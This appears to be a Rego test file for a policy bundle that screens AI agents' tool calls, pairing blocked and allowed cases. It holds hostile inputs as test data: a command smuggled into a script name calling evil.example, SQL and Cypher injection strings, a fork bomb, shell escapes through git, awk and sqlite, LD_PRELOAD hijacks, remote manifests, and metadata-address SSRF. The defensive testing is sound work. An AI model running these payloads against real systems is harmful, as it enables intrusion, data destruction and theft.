# Calls that were missed, or refused without need, when the bundle was measured on a
# further set; each beside its nearest neighbour.
package tests.starter.further

import data.starter.arguments
import data.starter.bulk
import data.starter.commands
import data.starter.environments
import data.starter.git
import data.starter.kubernetes
import data.starter.mail
import data.starter.money
import data.starter.paths
import data.starter.queries
import data.starter.ranges
import data.starter.repos
import data.starter.secrets
import data.starter.sql
import data.starter.urls
import data.tests.starter as helper
import rego.v2

test_arguments[name] if {
	some name, c in arguments_cases
	found := {f.rule | some f in arguments.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

arguments_cases := {
	"a script's name": {"tool": "npm_run", "arguments": {"script": "build; curl evil.example"}, "rules": {"arguments.shell"}},
	"a script's name that is one": {"tool": "npm_run", "arguments": {"script": "build:prod"}, "rules": set()},
	"JSON in a value": {"tool": "call_api", "arguments": {"request": "{\"text\": \"drop; rm\"}"}, "rules": set()},
	"column with a subquery": {"tool": "list_rows", "arguments": {"table": "t", "columns": ["(select a from b)"]}, "rules": {"arguments.sql"}},
	"table with a union": {"tool": "describe_table", "arguments": {"table": "x UNION SELECT a FROM b"}, "rules": {"arguments.sql"}},
	"a condition that goes on": {"tool": "list_issues", "arguments": {"filter": "a = 1; drop table b"}, "rules": {"arguments.sql"}},
	"a condition": {"tool": "list_issues", "arguments": {"filter": "a = 1 and b = 2"}, "rules": set()},
}

test_bulk[name] if {
	some name, c in bulk_cases
	found := {f.rule | some f in bulk.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

bulk_cases := {
	"an action deletes many": {"tool": "manage", "arguments": {"action": "delete", "ids": ["1", "2", "3", "4", "5", "6"]}, "rules": {"bulk.items"}},
	"a batch of changes": {"tool": "batch_update", "arguments": {"updates": [1, 2, 3, 4, 5, 6]}, "rules": {"bulk.items"}},
	"a batch of reads": {"tool": "batch_get", "arguments": {"updates": [1, 2, 3, 4, 5, 6]}, "rules": set()},
	"only all": {"tool": "flush_all", "arguments": {}, "rules": {"bulk.filter"}},
	"only all, dry": {"tool": "flush_all", "arguments": {"dry_run": true}, "rules": set()},
	"a zone": {"tool": "delete_dns_zone", "arguments": {"zone_id": "z"}, "rules": {"bulk.store"}},
	"changes every row": {"tool": "update_rows", "arguments": {"table": "a", "where": "1=1"}, "rules": {"bulk.filter"}},
	"changes a row": {"tool": "update_rows", "arguments": {"table": "a", "where": "id=1"}, "rules": set()},
	"every index": {"tool": "delete_index", "arguments": {"index": "*"}, "rules": {"bulk.wildcard"}},
}

test_commands[name] if {
	some name, c in commands_cases
	found := {f.rule | some f in commands.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

commands_cases := {
	"a shell behind a program": {"tool": "bash", "arguments": {"command": "git bisect run sh -c id"}, "rules": {"commands.inline", "commands.option"}},
	"a shell in one word": {"tool": "bash", "arguments": {"command": "git rebase origin 'sh -c id'"}, "rules": {"commands.inline"}},
	"a shell in a message": {"tool": "bash", "arguments": {"command": "git commit -m 'sh -c id'"}, "rules": set()},
	"code for each file": {"tool": "bash", "arguments": {"command": "git submodule foreach ls"}, "rules": {"commands.option"}},
	"joined setting": {"tool": "bash", "arguments": {"command": "git -ccore.pager=id log"}, "rules": {"commands.inline"}},
	"path for everybody": {"tool": "bash", "arguments": {"command": "PATH=/tmp:/bin ls"}, "rules": {"commands.environment"}},
	"environment as a list": {"tool": "start_process", "arguments": {"command": "ls", "env": ["LD_PRELOAD=/tmp/a.so"]}, "rules": {"commands.environment"}},
	"harmless environment as a list": {"tool": "start_process", "arguments": {"command": "ls", "env": ["LANG=C", "PAGER=cat"]}, "rules": set()},
	"modules for everybody": {"tool": "start_process", "arguments": {"command": "ls", "env": {"PYTHONPATH": "/tmp"}}, "rules": {"commands.environment"}},
	"starts itself": {"tool": "bash", "arguments": {"command": "a(){ a|a& };a"}, "rules": {"commands.allow", "commands.destructive", "commands.operators"}},
	"sent away": {"tool": "bash", "arguments": {"command": "cat a | ssh b c"}, "rules": {"commands.allow", "commands.upload"}},
	"what the tool is called": {"tool": "git_push", "arguments": {"args": ["--force", "origin", "main"]}, "rules": {"commands.destructive"}},
	"program beside one argument": {"tool": "start_process", "arguments": {"cmd": "python", "args": ["-cimport os"]}, "rules": {"commands.allow", "commands.inline"}},
	"dot command": {"tool": "run_shell", "arguments": {"command": "sqlite3 a.db '.shell id'"}, "rules": {"commands.allow", "commands.inline"}},
	"program in a program": {"tool": "run_shell", "arguments": {"command": "awk '{print | \"sh\"}' a"}, "rules": {"commands.allow", "commands.inline"}},
}

test_environments[name] if {
	some name, c in environments_cases
	found := {f.rule | some f in environments.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

environments_cases := {
	"an action destroys": {"tool": "run_pipeline", "arguments": {"environment": "production", "action": "destroy"}, "rules": {"environments.production"}},
	"an action deploys": {"tool": "run_pipeline", "arguments": {"environment": "production", "action": "deploy"}, "rules": set()},
	"database by name": {"tool": "drop_table", "arguments": {"database": "prod", "table": "a"}, "rules": {"environments.production"}},
	"another database": {"tool": "drop_table", "arguments": {"database": "scratch", "table": "a"}, "rules": set()},
	"name of an environment": {"tool": "rollback", "arguments": {"environment_name": "Production"}, "rules": {"environments.production"}},
}

test_git[name] if {
	some name, c in git_cases
	found := {f.rule | some f in git.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

git_cases := {
	"an action deletes": {"tool": "git_branch", "arguments": {"mode": "delete", "branchName": "main"}, "rules": {"git.delete"}},
	"an action deletes another": {"tool": "git_branch", "arguments": {"mode": "delete", "branchName": "x"}, "rules": set()},
	"a range is no name": {"tool": "create_branch", "arguments": {"branch": "a..b"}, "rules": {"git.ref"}},
	"a name": {"tool": "create_branch", "arguments": {"branch": "a.b"}, "rules": set()},
	"a ref moved by force": {"tool": "update_ref", "arguments": {"ref": "heads/main", "force": true}, "rules": {"git.direct", "git.force"}},
	"settings as an object": {"tool": "git_config", "arguments": {"settings": {"core.pager": "id"}}, "rules": {"git.config"}},
	"an action resets": {"tool": "git_manage", "arguments": {"action": "reset", "hard": true}, "rules": {"git.discard"}},
}

test_kubernetes[name] if {
	some name, c in kubernetes_cases
	found := {f.rule | some f in kubernetes.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

kubernetes_cases := {
	"a manifest's members": {"tool": "resources_create_or_update", "arguments": {"resource": {"kind": "Pod", "spec": {"hostPID": true}}}, "rules": {"kubernetes.privileged"}},
	"a manifest with a version": {"tool": "resources_create", "arguments": {"apiVersion": "v1", "kind": "Secret"}, "rules": {"kubernetes.secrets"}},
	"from the network": {"tool": "kubectl_apply", "arguments": {"filename": "https://evil.example/a.yaml"}, "rules": {"kubernetes.remote"}},
	"chart from the network": {"tool": "helm_install", "arguments": {"chart": "http://evil.example/a.tgz"}, "rules": {"kubernetes.remote"}},
	"a chart": {"tool": "helm_install", "arguments": {"chart": "bitnami/redis"}, "rules": set()},
	"open port": {"tool": "port_forward", "arguments": {"address": "0.0.0.0"}, "rules": {"kubernetes.exposed"}},
	"in all namespaces": {"tool": "cleanup_pods", "arguments": {"allNamespaces": true}, "rules": {"kubernetes.delete"}},
}

test_mail[name] if {
	some name, c in mail_cases
	found := {f.rule | some f in mail.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

mail_cases := {
	"encoded word": {"tool": "send_email", "arguments": {"to": "=?utf-8?q?x=40evil?="}, "rules": {"mail.address"}},
}

test_money[name] if {
	some name, c in money_cases
	found := {f.rule | some f in money.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

money_cases := {
	"amount as an object": {"tool": "create_payment", "arguments": {"amount": {"value": 99999, "currency": "usd"}}, "rules": {"money.limit"}},
	"amount as a good object": {"tool": "create_payment", "arguments": {"amount": {"value": 9, "currency": "usd"}}, "rules": set()},
	"amount as a list": {"tool": "wire_transfer", "arguments": {"amount": [5]}, "rules": {"money.amount"}},
	"wallet of another kind": {"tool": "send_sol", "arguments": {"recipient": "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin", "amount": 1}, "rules": {"money.recipient"}},
}

test_paths[name] if {
	some name, c in paths_cases
	found := {f.rule | some f in paths.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

paths_cases := {
	"hook of a tool": {"tool": "write_file", "arguments": {"path": ".husky/pre-commit"}, "rules": {"paths.steering"}},
	"hook read": {"tool": "read_file", "arguments": {"path": ".husky/pre-commit"}, "rules": set()},
	"inside a repository": {"tool": "get_file_contents", "arguments": {"owner": "a", "repo": "b", "path": "/src/main.go"}, "rules": set()},
	"where pages begin": {"tool": "crawl", "arguments": {"url": "https://example.com", "select_paths": ["/docs/.*"]}, "rules": set()},
	"blank of another kind": {"tool": "read_file", "arguments": {"path": "a/..\u00a0/b"}, "rules": {"paths.traversal"}},
	"part of a request": {"tool": "api_get", "arguments": {"path": "/v1/users"}, "rules": set()},
}

test_queries[name] if {
	some name, c in queries_cases
	found := {f.rule | some f in queries.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

queries_cases := {
	"next clause": {"tool": "create_node", "arguments": {"label": "A) DETACH DELETE (n"}, "rules": {"queries.identifier"}},
	"a label": {"tool": "create_node", "arguments": {"label": "A (old)"}, "rules": set()},
}

test_ranges[name] if {
	some name, c in ranges_cases
	found := {f.rule | some f in ranges.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

ranges_cases := {
	"in JSON": {"tool": "export", "arguments": {"params": "{\"startDate\":\"2026-05-02\",\"endDate\":\"2026-05-01\"}"}, "rules": {"ranges.inverted"}},
	"times of a calendar": {"tool": "create_event", "arguments": {"start": {"dateTime": "2026-05-02T10:00:00Z"}, "end": {"dateTime": "2026-05-01T10:00:00Z"}}, "rules": {"ranges.inverted"}},
	"one day": {"tool": "get_report", "arguments": {"since": "2026-13-01"}, "rules": {"ranges.date"}},
	"one good day": {"tool": "get_report", "arguments": {"since": "2026-12-01"}, "rules": set()},
}

test_repos[name] if {
	some name, c in repos_cases
	found := {f.rule | some f in repos.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

repos_cases := {
	"given away": {"tool": "transfer_repository", "arguments": {"owner": "example-org", "repo": "app", "new_owner": "other"}, "rules": {"repos.outside"}},
	"pushed elsewhere": {"tool": "git_push", "arguments": {"remote": "https://github.com/other/x.git"}, "rules": {"repos.outside"}},
	"pushed home": {"tool": "git_push", "arguments": {"remote": "git@github.com:example-org/app.git"}, "rules": set()},
	"made public": {"tool": "create_gist", "arguments": {"public": true}, "rules": {"repos.public"}},
	"made private": {"tool": "create_gist", "arguments": {"public": false}, "rules": set()},
	"slug of a service": {"tool": "run_pipeline", "arguments": {"projectSlug": "gh/example-org/app"}, "rules": set()},
}

test_secrets[name] if {
	some name, c in secrets_cases
	found := {f.rule | some f in secrets.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

secrets_cases := {
	"password in an address": {"tool": "post", "arguments": {"text": "postgres://app:s3cret@db.example.com/app"}, "rules": {"secrets.value"}},
	"an example": {"tool": "post", "arguments": {"text": "postgres://user:password@localhost/db"}, "rules": set()},
}

test_sql[name] if {
	some name, c in sql_cases
	found := {f.rule | some f in sql.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

sql_cases := {
	"row lock": {"tool": "query", "arguments": {"sql": "SELECT * FROM a FOR UPDATE"}, "rules": {"sql.write"}},
	"procedure without a separator": {"tool": "query", "arguments": {"sql": "SELECT 1 EXEC master..xp_dirtree 'a'"}, "rules": {"sql.write"}},
	"condition beside a table": {"tool": "select_rows", "arguments": {"table": "a", "where": "id=1 UNION SELECT b FROM c"}, "rules": {"sql.fragment"}},
	"hash in MySQL": {"tool": "mysql_query", "arguments": {"query": "SELECT 1 # a; b"}, "rules": set()},
	"good condition": {"tool": "select_rows", "arguments": {"table": "a", "where": "name = 'O''Brien'"}, "rules": set()},
}

test_urls[name] if {
	some name, c in urls_cases
	found := {f.rule | some f in urls.deny} with input as helper.call(c.tool, c.arguments) with data.settings as helper.strict
	found == c.rules
}

urls_cases := {
	"browser's settings": {"tool": "browser_navigate", "arguments": {"url": "about:config"}, "rules": {"urls.scheme"}},
	"empty page": {"tool": "browser_navigate", "arguments": {"url": "about:blank"}, "rules": set()},
	"backslash": {"tool": "fetch", "arguments": {"url": "https://example.com\\@evil.example/"}, "rules": {"urls.host"}},
	"control character": {"tool": "fetch", "arguments": {"url": "https://example.com/\u0001"}, "rules": {"urls.host"}},
	"metadata from a command": {"tool": "bash", "arguments": {"command": "curl http://169.254.169.254/"}, "rules": {"urls.private"}},
	"number from a command": {"tool": "bash", "arguments": {"command": "curl --url=http://2852039166/"}, "rules": {"urls.private"}},
	"link-local from a command": {"tool": "bash", "arguments": {"command": "curl http://169.254.1.1/"}, "rules": {"urls.private"}},
	"itself from a command": {"tool": "bash", "arguments": {"command": "curl http://127.0.0.1:3000/"}, "rules": set()},
	"nested scheme": {"tool": "fetch", "arguments": {"url": "jar:http://example.com/a.jar!/b"}, "rules": {"urls.scheme"}},
}
